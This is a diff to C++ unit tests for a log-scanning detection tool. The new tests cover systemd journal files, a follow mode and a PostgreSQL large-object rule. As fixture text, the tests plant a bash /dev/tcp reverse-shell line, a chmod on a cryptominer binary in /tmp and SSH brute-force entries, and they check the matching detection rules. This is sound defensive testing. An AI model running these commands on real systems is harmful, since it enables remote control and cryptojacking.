@@ -1,5 +1,6 @@
 // The logs scope on real logs: PostgreSQL started by the test with statement
-// logging, running seed 004's SQL; a Podman container's own k8s-file log;
+// logging, running seed 004's SQL; a Podman container's own k8s-file log; a
+// systemd journal file written by systemd's own journal-remote;
 // Docker json-file logs (current and rotated gzip) planted under --root with
 // seed 001's re-download loop; stdin; and broken input.
 #include <fmt/format.h>
@@ -125,8 +126,11 @@ TEST(LogsTest, PostgresStatementLogShowsSeed004) {
   ASSERT_NE(probe, nullptr) << scan.dump(2);
   // Each failed call is two lines: the statement, and the error's STATEMENT line.
   EXPECT_EQ((*probe)["evidence"]["count"], 4);
+  const auto* stored = RuleFinding(scan, "pg-large-object-write");
+  ASSERT_NE(stored, nullptr) << scan.dump(2);
+  EXPECT_EQ((*stored)["severity"], "high");
   // "SELECT 1" and the server's own start-up lines are not findings.
-  EXPECT_EQ(FindingsOf(scan, "log.match").size(), 3u) << scan.dump(2);
+  EXPECT_EQ(FindingsOf(scan, "log.match").size(), 4u) << scan.dump(2);
   EXPECT_GE(scan["counts"]["log_lines"].get<int>(), 6);
 }
 
@@ -236,6 +240,104 @@ TEST(LogsTest, PodmanContainerLogIsRead) {
     EXPECT_EQ((*saved)["container"]["id"], id);
     EXPECT_EQ((*saved)["evidence"]["log_kind"], "container");
   }
+}
+
+// The systemd journal, as systemd writes it: entries turned into a journal
+// file by systemd-journal-remote (the journal's own writer), under --root.
+// One is sshd's, one a container's (the journald log driver's CONTAINER_ID).
+TEST(LogsTest, SystemdJournalUnderRoot) {
+  const char* remote = "/lib/systemd/systemd-journal-remote";
+  if (access(remote, X_OK) != 0) {
+    GTEST_SKIP() << "systemd-journal-remote is not installed (scripts/deps.sh installs it)";
+  }
+  TempDir root;
+  const std::string dir = root / "var/log/journal/0123456789abcdef0123456789abcdef";
+  fs::create_directories(dir);
+  const std::string entries =
+      "__REALTIME_TIMESTAMP=1795381381000000\n__MONOTONIC_TIMESTAMP=1000\n"
+      "_BOOT_ID=0123456789abcdef0123456789abcdef\n_HOSTNAME=vm\nSYSLOG_IDENTIFIER=sshd\n"
+      "MESSAGE=Failed password for root from 10.9.8.7 port 22 ssh2\n\n"
+      "__REALTIME_TIMESTAMP=1795381400000000\n__MONOTONIC_TIMESTAMP=2000\n"
+      "_BOOT_ID=0123456789abcdef0123456789abcdef\n_HOSTNAME=vm\nSYSLOG_IDENTIFIER=web\n"
+      "CONTAINER_ID=abc123def456\nCONTAINER_ID_FULL="
+      "abc123def4567890abc123def4567890abc123def4567890abc123def4567890\n"
+      "MESSAGE=/bin/sh: /tmp/dbus_daemon: Permission denied\n\n"
+      "__REALTIME_TIMESTAMP=1795381500000000\n__MONOTONIC_TIMESTAMP=3000\n"
+      "_BOOT_ID=0123456789abcdef0123456789abcdef\n_HOSTNAME=vm\nSYSLOG_IDENTIFIER=systemd\n"
+      "MESSAGE=Started Daily apt download activities.\n\n";
+  const std::string export_file = root / "entries.export";
+  std::ofstream(export_file) << entries;
+  const auto made = RunCommand(
+      {"sh", "-c", fmt::format("{} -o {}/system.journal - < {}", remote, dir, export_file)});
+  ASSERT_EQ(made.exit_code, 0) << made.err;
+
+  const auto scan = ScanJson({"--only", "logs", "--root", root.path(), "--fail-on", "none"});
+  const auto* ssh = RuleFinding(scan, "ssh-brute-force");
+  ASSERT_NE(ssh, nullptr) << scan.dump(2);
+  EXPECT_EQ((*ssh)["evidence"]["log_kind"], "journal");
+  EXPECT_EQ((*ssh)["evidence"]["first_seen"], "2026-11-22T21:03:01Z");
+  EXPECT_EQ((*ssh)["evidence"]["lines"][0],
+            "sshd: Failed password for root from 10.9.8.7 port 22 ssh2");
+  const auto* denied = RuleFinding(scan, "temp-exec-denied");
+  ASSERT_NE(denied, nullptr) << scan.dump(2);
+  EXPECT_EQ((*denied)["evidence"]["log_kind"], "container");
+  EXPECT_EQ((*denied)["container"]["id"],
+            "abc123def4567890abc123def4567890abc123def4567890abc123def4567890");
+  EXPECT_NE(RuleFinding(scan, "seed-payload-name"), nullptr);           // dbus_daemon, same line
+  EXPECT_EQ(FindingsOf(scan, "log.match").size(), 3u) << scan.dump(2);  // not apt's line
+  // --since skips what came before it.
+  const auto later = ScanJson({"--only", "logs", "--root", root.path(), "--fail-on", "none",
+                               "--since", "2026-11-22T21:03:10Z"});
+  EXPECT_EQ(RuleFinding(later, "ssh-brute-force"), nullptr);
+  EXPECT_NE(RuleFinding(later, "temp-exec-denied"), nullptr);
+}
+
+// scan --follow: the first pass, then each line as it is appended, a
+// half-written line only once finished, and a rotated log from its start.
+TEST(LogsTest, FollowReportsAppendedLinesAsTheyCome) {
+  TempDir dir;
+  const std::string log = dir / "app.log";
+  const std::string out = dir / "out.jsonl";
+  std::ofstream(log) << "hello\nchmod +x /tmp/kdevtmpfsi\n";
+  Child follower("/bin/sh", {"sh", "-c",
+                             fmt::format("exec {} scan --only logs --format jsonl --follow {} >{}",
+                                         DEMINER_BINARY, log, out)});
+  // The findings so far, as (rule, line).
+  const auto read = [&] {
+    std::vector<std::pair<std::string, int>> got;
+    std::ifstream in(out);
+    std::string line;
+    while (std::getline(in, line)) {
+      const auto j = nlohmann::json::parse(line, nullptr, false);
+      if (j.is_object()) got.emplace_back(j["evidence"]["rule"], j["line"].get<int>());
+    }
+    return got;
+  };
+  const auto wait_for = [&](size_t n) {
+    for (int i = 0; i < 100 && read().size() < n; ++i) {
+      std::this_thread::sleep_for(std::chrono::milliseconds(100));
+    }
+    return read();
+  };
+  using Got = std::vector<std::pair<std::string, int>>;
+  EXPECT_EQ(wait_for(2), (Got{{"chmod-exec-temp", 2}, {"miner-name", 2}}));
+  std::ofstream(log, std::ios::app) << "ok\nbash -i >/dev/tcp/10.9.8.7/4444 0";
+  std::this_thread::sleep_for(std::chrono::milliseconds(1500));
+  EXPECT_EQ(read().size(), 2u);  // the last line is not finished
+  std::ofstream(log, std::ios::app) << ">/dev/null\n";
+  auto got = wait_for(3);
+  ASSERT_EQ(got.size(), 3u);
+  EXPECT_EQ(got[2], (std::pair<std::string, int>{"reverse-shell", 4}));
+  // Rotated: a new file in its place is read from its first line.
+  fs::rename(log, log + ".1");
+  std::ofstream(log) << "Error: Command failed: command -v curl\n";
+  got = wait_for(5);
+  ASSERT_GE(got.size(), 4u);
+  EXPECT_EQ(got[3].second, 1);
+  EXPECT_EQ(RunDeminer({"scan", "--only", "logs", "--follow", log}).exit_code, 2);  // not jsonl
+  EXPECT_EQ(
+      RunDeminer({"scan", "--only", "logs,files", "--format", "jsonl", "--follow", log}).exit_code,
+      2);
 }
 
 TEST(LogsTest, StdinAndBrokenInput) {
